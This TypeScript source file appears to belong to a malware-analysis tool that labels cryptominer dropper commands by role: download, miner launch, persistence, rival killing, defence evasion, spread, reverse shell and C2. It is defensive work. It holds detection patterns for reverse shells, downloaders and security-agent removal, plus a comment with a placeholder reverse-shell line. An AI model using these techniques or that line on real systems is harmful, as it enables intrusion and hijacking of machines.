/**
 * The role of each statement, as an analyst would note it in the margin: fetch, run, start a miner (with
 * its pool, login, worker, password, algo and threads), write a config, install persistence (which kind),
 * remove rivals, evade defences, spread, open a reverse shell, reach C2. Roles are behaviour (how
 * droppers act), which changes slowly; which pools and families exist is intel.
 */
import type { IntelView } from '../intel-view.ts';
import { SECURITY_DOMAIN_RE } from '../patterns.ts';
import type { Command, Statement } from './model.ts';

export type PersistenceKind =
  | 'cron'
  | 'systemd'
  | 'rc-local'
  | 'init.d'
  | 'profile'
  | 'ssh-key'
  | 'ld-preload'
  | 'scheduled-task'
  | 'run-key'
  | 'wmi'
  | 'startup-folder';

export interface MinerArgs {
  program: string;
  pool?: string;
  user?: string;
  pass?: string;
  worker?: string;
  algo?: string;
  threads?: string;
  config?: string;
}

export type Role =
  | { kind: 'download'; urls: string[] }
  | { kind: 'execute' }
  | { kind: 'miner'; args: MinerArgs }
  | { kind: 'config'; target: string }
  | { kind: 'persistence'; how: PersistenceKind; target: string }
  | {
      kind: 'rival';
      how: 'kill' | 'cron-clean' | 'container' | 'hosts' | 'firewall' | 'port-kill' | 'service' | 'files';
      targets: string[];
    }
  | {
      kind: 'evasion';
      how: 'firewall' | 'selinux' | 'cloud-agent' | 'chattr' | 'history' | 'logs' | 'timestomp' | 'antivirus';
    }
  | { kind: 'spread'; how: 'ssh' | 'masscan' | 'redis' | 'docker-api' | 'scanner' }
  | { kind: 'revshell' }
  | { kind: 'c2'; how: 'onion' | 'paste' | 'deaddrop'; value: string };

const DOWNLOADERS =
  /^(?:curl|wget|wget1|wget2|wge|wd1|cd1|cur|curl1|curl2|xget|xcurl|\.wget|\.curl|tftp|lwp-download|fetch|aria2c|bitsadmin|certutil)(?:\.exe)?$/i;
const SHELLS =
  /^(?:ba|da|z|k)?sh$|^python[23]?(?:\.\d+)?$|^perl$|^(?:powershell|pwsh|cmd)(?:\.exe)?$|^iex$|^Invoke-Expression$/i;
const URL_RE = /\b(?:https?|ftp|tftp):\/\/[^\s"'<>|;`)\\]+/gi;
const LOOPBACK_URL = /^(?:https?|ftp):\/\/(?:127\.\d+\.\d+\.\d+|localhost|\[?::1\]?)(?:[:/]|$)/i;
const SINKHOLE_IP = /^(?:0\.0\.0\.0|127\.\d+\.\d+\.\d+|::1?|localhost)$/;
/** Block explorers whose APIs droppers query for an address's last transaction, used as a C2 dead drop. */
const EXPLORER_RE =
  /\b(?:blockchain\.info|blockchain\.com|blockchair\.com|blockcypher\.com|btc\.com|mempool\.space|chain\.so|blockstream\.info|api\.etherscan\.io|sochain\.com)\b/i;
const PASTE_RE =
  /\b(?:pastebin\.com|paste\.ee|hastebin\.com|ghostbin\.\w+|pastie\.io|rentry\.co|transfer\.sh|termbin\.com|paste\.c-net\.org)\b/i;
const ONION_RE =
  /\b[a-z2-7]{16}(?:[a-z2-7]{40})?\.(?:onion|tor2web\.\w+|onion\.\w+)\b|\btor2web\.\w+|\.onion\.(?:ws|ly|to|sh|pet)\b/i;
const CLOUD_AGENT_RE =
  /aegis|aliyun|AliYunDun|AliHids|cloudmonitor|YunJing|barad_agent|sgagent|qcloud|stargate|hostguard|bcm-agent|YDService|YDLive|uniagent|oracle-cloud-agent|amazon-ssm-agent|google_guest_agent|walinuxagent/i;

export function base(p: string): string {
  return (p.split(/[\\/]/).pop() ?? p).replace(/^["']|["']$/g, '');
}

/** The non-option arguments of `grep`/`pgrep`/`findstr`, i.e. what a kill pipeline selects (not -v ones). */
function selectors(cmds: Command[]): string[] {
  const out: string[] = [];
  for (const c of cmds) {
    const n = base(c.argv[0] ?? '').toLowerCase();
    if (!/^(?:e|f)?grep$|^pgrep$|^pidof$|^findstr(?:\.exe)?$/.test(n)) continue;
    if (c.argv.some((a) => /^-\w*v/.test(a))) continue;
    const args = c.argv.slice(1).filter((a) => !a.startsWith('-') && !/^\/[a-z]$/i.test(a));
    out.push(...args.filter((a) => a !== 'grep'));
  }
  // PowerShell: Get-Process -Name X | ..., Where-Object { $_.Path -like '*X*' } | Stop-Process.
  for (const c of cmds) {
    const n = base(c.argv[0] ?? '').toLowerCase();
    if (n === 'get-process' || n === 'gps') out.push(...c.argv.slice(1).filter((a) => !a.startsWith('-')));
    if (n === 'where-object' || n === 'where' || n === '?')
      for (const [k, a] of c.argv.entries())
        if (/^-(?:like|match|eq|contains)$/i.test(a) && c.argv[k + 1])
          out.push(c.argv[k + 1]!.replace(/^\*|\*$/g, ''));
  }
  // Kill loops inside a command substitution: kill -9 $(ps aux | grep X | awk ...).
  for (const c of cmds)
    for (const a of c.argv)
      for (const m of a.matchAll(/\b(?:grep|pgrep|pidof)\s+(?:-\w+\s+)*["']?([^"'|)\s]+)/g))
        if (m[1] !== 'grep' && m[1] !== '-v') out.push(m[1]!);
  return out;
}

function sedDeletes(cmds: Command[]): string[] {
  const out: string[] = [];
  for (const c of cmds) {
    const n = base(c.argv[0] ?? '');
    if (n === 'sed')
      for (const a of c.argv.slice(1))
        for (const m of a.matchAll(/\/((?:\\.|[^/])+)\/d/g)) out.push(m[1]!.replace(/\\(.)/g, '$1'));
    if (/^(?:e|f)?grep$/.test(n) && c.argv.some((a) => /^-\w*v/.test(a)))
      out.push(...c.argv.slice(1).filter((a) => !a.startsWith('-')));
  }
  return out;
}

const MINER_FLAGS: Record<string, keyof MinerArgs> = {
  '-o': 'pool',
  '--url': 'pool',
  '-url': 'pool',
  '--pool': 'pool',
  '-pool': 'pool',
  '-P': 'pool',
  '-u': 'user',
  '--user': 'user',
  '-user': 'user',
  '--wallet': 'user',
  '-wal': 'user',
  '-O': 'user',
  '--userpass': 'user',
  '-p': 'pass',
  '--pass': 'pass',
  '--password': 'pass',
  '-pass': 'pass',
  '--rig-id': 'worker',
  '--worker': 'worker',
  '-worker': 'worker',
  '-rig': 'worker',
  '-a': 'algo',
  '--algo': 'algo',
  '--algorithm': 'algo',
  '-algo': 'algo',
  '--coin': 'algo',
  '-t': 'threads',
  '--threads': 'threads',
  '--cpu-threads': 'threads',
  '-threads': 'threads',
  '-c': 'config',
  '--config': 'config',
  '-config': 'config',
};

/** Miner arguments in xmrig / xmr-stak / cpuminer / ccminer / lolMiner spellings. */
export function minerArgs(argv: string[], iv: IntelView): MinerArgs | undefined {
  const m: MinerArgs = { program: argv[0] ?? '' };
  for (let i = 1; i < argv.length; i++) {
    const a = argv[i]!;
    const eq = a.startsWith('--') ? a.indexOf('=') : -1;
    const flag = eq > 0 ? a.slice(0, eq) : a;
    const field = MINER_FLAGS[flag];
    if (!field || field === 'program') continue;
    const v = eq > 0 ? a.slice(eq + 1) : argv[++i];
    if (v !== undefined && m[field] === undefined) m[field] = v;
  }
  // `-O user:pass` (cpuminer's --userpass) splits into login and password.
  if (m.user?.includes(':') && !m.user.includes('://') && !m.pass) {
    const [u, p] = m.user.split(':', 2) as [string, string];
    m.user = u;
    m.pass = p;
  }
  const name = base(m.program);
  const named = iv.minerProcess(name) ?? iv.minerFile(name);
  const stratum = argv.some((a) => /stratum[12]?\+(?:tcp|ssl|tls|udp):\/\//i.test(a));
  const poolish = m.pool !== undefined && (m.user !== undefined || /:\d{2,5}$|stratum/i.test(m.pool));
  // `-o` and `-p` mean other things to curl, wget, ssh...: a miner is a named miner, or pool + login.
  if (DOWNLOADERS.test(name) || /^(?:ssh|scp|sshpass|tar|unzip|nc|ncat|openssl|git)$/.test(name))
    return undefined;
  if ((named && named.weight !== 'weak') || stratum || poolish) return m;
  return undefined;
}

export function rolesOf(s: Statement, iv: IntelView): Role[] {
  const roles: Role[] = [];
  const names = s.cmds.map((c) => base(c.argv[0] ?? '').toLowerCase());
  // Redirect targets belong to the act too (`bash -i >& /dev/tcp/h/p 0>&1`).
  const all = [s.text, ...s.redirects.filter((r) => r.op !== '<').map((r) => r.target)].join(' ');
  const bodies = s.redirects.map((r) => r.body ?? '').join('\n');
  const targets = s.redirects.filter((r) => r.op !== '<').map((r) => r.target);
  // Rival removal first: its pools and wallets are the competitor's.
  const killer = names.some((n) =>
    /^(?:kill|pkill|killall|xargs|taskkill(?:\.exe)?|stop-process|wmic(?:\.exe)?)$/.test(n),
  );
  if (killer) {
    for (const [i, n] of names.entries()) {
      const a = s.cmds[i]!.argv;
      if (
        n === 'pkill' ||
        n === 'killall' ||
        n === 'stop-process' ||
        n === 'taskkill' ||
        n === 'taskkill.exe'
      ) {
        // Operands only; a[k] is the word before slice element k, so values of -u/-s/--signal are skipped.
        const t = a
          .slice(1)
          .filter(
            (x, k) =>
              !/^[-/]/.test(x) &&
              !/^(?:-?\d+|KILL|TERM|force)$/i.test(x) &&
              !/^[-/](?:u|s|signal)$/i.test(a[k] ?? ''),
          );
        if (t.length) roles.push({ kind: 'rival', how: 'kill', targets: t });
      }
    }
    const sel = selectors(s.cmds);
    if (sel.length) {
      const how = names.some((n) => n === 'netstat' || n === 'ss' || n === 'lsof')
        ? 'port-kill'
        : names.includes('docker')
          ? 'container'
          : 'kill';
      roles.push({ kind: 'rival', how, targets: sel });
    }
  }
  if (
    !roles.some((r) => r.kind === 'rival' && r.how === 'container') &&
    names.includes('docker') &&
    /\bdocker\s+(?:rm|kill|stop|rmi)\b|xargs\s+(?:-\S+\s+)*docker\s+(?:rm|kill|stop|rmi)/.test(all)
  ) {
    const sel = selectors(s.cmds);
    if (sel.length) roles.push({ kind: 'rival', how: 'container', targets: sel });
  }
  if (
    names.includes('crontab') ||
    targets.some((t) => /cron/.test(t)) ||
    s.cmds.some((c) => c.argv.some((a) => /\/cron|crontab/.test(a)))
  ) {
    const del = sedDeletes(s.cmds);
    if (del.length) roles.push({ kind: 'rival', how: 'cron-clean', targets: del });
  }
  if (targets.some((t) => t === '/etc/hosts' || /\\drivers\\etc\\hosts$/i.test(t))) {
    const text = names[0] === 'echo' || names[0] === 'printf' ? s.cmds[0]!.argv.slice(1).join(' ') : bodies;
    const sink: string[] = [];
    for (const l of text.split(/\n|\\n/)) {
      const [ip, ...hosts] = l.trim().split(/\s+/);
      if (ip && SINKHOLE_IP.test(ip)) sink.push(...hosts);
    }
    if (sink.some((h) => SECURITY_DOMAIN_RE.test(h))) roles.push({ kind: 'evasion', how: 'cloud-agent' });
    const rivals = sink.filter((h) => !SECURITY_DOMAIN_RE.test(h));
    if (rivals.length) roles.push({ kind: 'rival', how: 'hosts', targets: rivals });
  }
  for (const [i, n] of names.entries()) {
    const a = s.cmds[i]!.argv;
    if ((n === 'iptables' || n === 'ip6tables') && a.some((x) => /^(?:DROP|REJECT)$/.test(x))) {
      const t: string[] = [];
      for (let k = 1; k < a.length; k++)
        if (/^(?:-d|--destination|--dport|-s)$/.test(a[k]!) && a[k + 1]) t.push(a[k + 1]!);
      if (t.length) roles.push({ kind: 'rival', how: 'firewall', targets: t });
    }
    if (n === 'systemctl' && /^(?:stop|disable|mask)$/.test(a[1] ?? '')) {
      const svc = a.slice(2).filter((x) => !x.startsWith('-'));
      if (svc.some((x) => CLOUD_AGENT_RE.test(x))) roles.push({ kind: 'evasion', how: 'cloud-agent' });
      else if (svc.some((x) => /firewalld|ufw|apparmor/.test(x)))
        roles.push({ kind: 'evasion', how: 'firewall' });
      else if (svc.some((x) => iv.minerProcess(x.replace(/\.service$/, '')) || iv.families(x).length))
        roles.push({ kind: 'rival', how: 'service', targets: svc });
    }
  }
  // Deleting or unlocking a competitor's files (rm/chattr -i on paths that name a miner or a campaign).
  if (names[0] === 'rm' || names[0] === 'chattr' || names[0] === 'unlink') {
    const paths = s.cmds[0]!.argv.slice(1).filter((x) => !x.startsWith('-') && !x.startsWith('+'));
    const hit = paths.filter((x) => {
      const n = iv.minerFile(base(x)) ?? iv.minerProcess(base(x));
      return (n && n.weight !== 'weak') || iv.families(x).length > 0;
    });
    if (hit.length) roles.push({ kind: 'rival', how: 'files', targets: hit });
  }
  // Defence evasion.
  if (/\biptables\s+-[FX]\b|\bufw\s+disable\b|netsh\s+advfirewall\s+set\s+\S+\s+state\s+off/i.test(all))
    roles.push({ kind: 'evasion', how: 'firewall' });
  if (/\bsetenforce\s+0\b|SELINUX=disabled/.test(all + bodies))
    roles.push({ kind: 'evasion', how: 'selinux' });
  if (
    CLOUD_AGENT_RE.test(all) &&
    /\b(?:rm|pkill|killall|kill|uninstall|uninst|stop|disable|remove|chattr)\b|uninstall\.sh|uninst\.sh/i.test(
      all,
    )
  )
    roles.push({ kind: 'evasion', how: 'cloud-agent' });
  if (names.some((n) => /^(?:chattr|zzh|zzhh|tntrecht|chatttr)$/.test(n)))
    roles.push({ kind: 'evasion', how: 'chattr' });
  if (/\bhistory\s+-c\b|unset\s+HISTFILE|HISTFILE=\/dev\/null|HISTSIZE=0|\.bash_history/.test(all))
    roles.push({ kind: 'evasion', how: 'history' });
  if (
    targets.some((t) => /^\/var\/log\//.test(t)) ||
    /\brm\s+-\w*\s+\/var\/log|wevtutil(?:\.exe)?\s+cl|Clear-EventLog|journalctl\s+--vacuum/i.test(all)
  )
    roles.push({ kind: 'evasion', how: 'logs' });
  if (names.includes('touch') && s.cmds.some((c) => c.argv.some((a) => /^-(?:r|t|d)$|^--reference/.test(a))))
    roles.push({ kind: 'evasion', how: 'timestomp' });
  if (/Set-MpPreference\s+-Disable|Add-MpPreference\s+-Exclusion|DisableAntiSpyware/i.test(all))
    roles.push({ kind: 'evasion', how: 'antivirus' });
  // Download, execute.
  const urls = [...new Set([...all.matchAll(URL_RE)].map((m) => m[0]))].filter((u) => !LOOPBACK_URL.test(u));
  const dl =
    names.some((n) => DOWNLOADERS.test(n)) ||
    /Invoke-WebRequest|\biwr\b|Net\.WebClient|DownloadString|DownloadFile|Start-BitsTransfer|XMLHTTP|WinHttpRequest|urlretrieve|urlopen|requests\.get|\/dev\/tcp\/[\d.]+\/\d+/i.test(
      all,
    );
  // VBScript/JScript: `x.Open "GET", url` on an XMLHTTP object created by an earlier statement.
  const open = s.cmds.find(
    (c) => /\.open$/i.test(c.argv[0] ?? '') && /^(?:GET|POST)$/i.test(c.argv[1] ?? ''),
  );
  if (open) {
    const u = (open.argv[2] ?? '').replace(/^"|"$/g, '');
    if (/^(?:https?|ftp):\/\//i.test(u) && !LOOPBACK_URL.test(u)) roles.push({ kind: 'download', urls: [u] });
  } else if (dl && urls.length) roles.push({ kind: 'download', urls });
  else if (dl && /\/dev\/tcp\//.test(all) && !/\s-i\b|>&/.test(all))
    roles.push({ kind: 'download', urls: [] });
  if (
    names.slice(1).some((n) => SHELLS.test(n)) ||
    names.some(
      (n) => n === 'nohup' || n === 'setsid' || n === 'exec' || n === 'start-process' || n === 'iex',
    ) ||
    (names[0] !== undefined && /^\.{0,2}\//.test(s.cmds[0]!.argv[0] ?? '') && !targets.length) ||
    (names.includes('chmod') &&
      s.cmds.some((c) => c.argv.some((a) => /^(?:\+x|[0-7]*[1357][0-7]*|a\+x|u\+x)$/.test(a)))) ||
    /Invoke-Expression|\bIEX\b|WScript\.Shell|\.Run\b|ShellExecute/i.test(all)
  )
    roles.push({ kind: 'execute' });
  // A miner started (any command of the statement, including `nohup ./x -o ...`).
  for (const c of s.cmds) {
    let argv = c.argv;
    while (
      argv.length > 1 &&
      /^(?:nohup|setsid|exec|sudo|nice|timeout|cpulimit|screen|start|torsocks)$/i.test(base(argv[0]!))
    )
      argv = argv.slice(
        argv[0] === 'nice' && argv[1] === '-n'
          ? 3
          : argv[1]?.startsWith('-') && base(argv[0]!) !== 'nohup'
            ? 2
            : 1,
      );
    const m = minerArgs(argv, iv);
    if (m) roles.push({ kind: 'miner', args: m });
  }
  // Writes: configs and persistence.
  const content =
    (names[0] === 'echo' || names[0] === 'printf' ? s.cmds[0]!.argv.slice(1).join(' ') : '') + bodies;
  for (const t of targets) {
    const p = persistenceTarget(t);
    if (p) roles.push({ kind: 'persistence', how: p, target: t });
    else if (
      /"pools"\s*:|"url"\s*:\s*"[^"]*:\d+|"donate-level"|pool_list|"pool_address"|\bstratum\+/.test(content)
    )
      roles.push({ kind: 'config', target: t });
  }
  for (const [i, n] of names.entries()) {
    const a = s.cmds[i]!.argv;
    if (n === 'crontab' && a.length > 1 && !a.slice(1).some((x) => /^-[lre]$/.test(x)))
      roles.push({ kind: 'persistence', how: 'cron', target: 'crontab' });
    else if (n === 'crontab' && a.length === 1 && s.redirects.some((r) => r.body))
      roles.push({ kind: 'persistence', how: 'cron', target: 'crontab' });
    if (n === 'systemctl' && a[1] === 'enable')
      roles.push({ kind: 'persistence', how: 'systemd', target: a.slice(2).join(' ') });
    if ((n === 'update-rc.d' || n === 'chkconfig') && a.length > 1)
      roles.push({ kind: 'persistence', how: 'init.d', target: a.slice(1).join(' ') });
    if ((n === 'cp' || n === 'mv' || n === 'copy' || n === 'copy-item' || n === 'ln') && a.length > 2) {
      const p = persistenceTarget(a[a.length - 1]!);
      if (p) roles.push({ kind: 'persistence', how: p, target: a[a.length - 1]! });
    }
  }
  if (/schtasks(?:\.exe)?\s+\/create|Register-ScheduledTask|New-ScheduledTask/i.test(all))
    roles.push({
      kind: 'persistence',
      how: 'scheduled-task',
      target: /\/tn\s+"?([^"\s]+)/i.exec(all)?.[1] ?? 'task',
    });
  if (
    /CurrentVersion\\Run(?:Once)?\b/i.test(all) &&
    /\breg(?:\.exe)?\s+add|RegWrite|New-ItemProperty|Set-ItemProperty/i.test(all)
  )
    roles.push({
      kind: 'persistence',
      how: 'run-key',
      target: /[^\s"]*CurrentVersion\\Run(?:Once)?[^\s"]*/i.exec(all)?.[0] ?? 'Run',
    });
  if (/__EventFilter|CommandLineEventConsumer|ActiveScriptEventConsumer|__FilterToConsumerBinding/i.test(all))
    roles.push({ kind: 'persistence', how: 'wmi', target: 'root\\subscription' });
  // Spread, reverse shells, C2.
  if (/known_hosts/.test(all) && /\bssh\b|\bscp\b/.test(all + names.join(' ')))
    roles.push({ kind: 'spread', how: 'ssh' });
  else if (names.includes('ssh') && /StrictHostKeyChecking=no|BatchMode=yes/.test(all))
    roles.push({ kind: 'spread', how: 'ssh' });
  if (names.includes('masscan') || names.includes('zmap')) roles.push({ kind: 'spread', how: 'masscan' });
  if (names.includes('redis-cli') && /-h\b|config\s+set|slaveof/i.test(all))
    roles.push({ kind: 'spread', how: 'redis' });
  if (names.includes('docker') && s.cmds.some((c) => c.argv.includes('-H')))
    roles.push({ kind: 'spread', how: 'docker-api' });
  if (names.some((n) => /^(?:pnscan|zgrab2?|nmap)$/.test(n))) roles.push({ kind: 'spread', how: 'scanner' });
  if (/\/dev\/tcp\/[^/\s]+\/\d+/.test(all) && /\s-i\b|>&|0>&1/.test(all)) roles.push({ kind: 'revshell' });
  if (/\bn(?:c|cat)\b[^|]*\s-e\s+\/bin\/(?:ba)?sh|socat\b[^|]*exec:|pty\.spawn/.test(all))
    roles.push({ kind: 'revshell' });
  for (const u of urls) {
    if (ONION_RE.test(u)) roles.push({ kind: 'c2', how: 'onion', value: u });
    else if (PASTE_RE.test(u)) roles.push({ kind: 'c2', how: 'paste', value: u });
    else if (EXPLORER_RE.test(u)) roles.push({ kind: 'c2', how: 'deaddrop', value: u });
  }
  return roles;
}

function persistenceTarget(t: string): PersistenceKind | undefined {
  if (/^\/etc\/cron|^\/var\/spool\/cron|\/etc\/crontab$|\/cron\.d\//.test(t)) return 'cron';
  if (/\/systemd\/system\/|\.service$|\.timer$/.test(t)) return 'systemd';
  if (/rc\.local$/.test(t)) return 'rc-local';
  if (/^\/etc\/init\.d\/|^\/etc\/rc\d\.d\//.test(t)) return 'init.d';
  if (
    /\.bashrc$|\.bash_profile$|\.profile$|^\/etc\/profile|\.bash_login$|\/etc\/bash\.bashrc$|\.zshrc$/.test(t)
  )
    return 'profile';
  if (/authorized_keys2?$/.test(t)) return 'ssh-key';
  if (/\/etc\/ld\.so\.preload$/.test(t)) return 'ld-preload';
  if (/Start Menu\\Programs\\Startup|Start Menu\/Programs\/Startup/i.test(t)) return 'startup-folder';
  return undefined;
}

export { EXPLORER_RE };
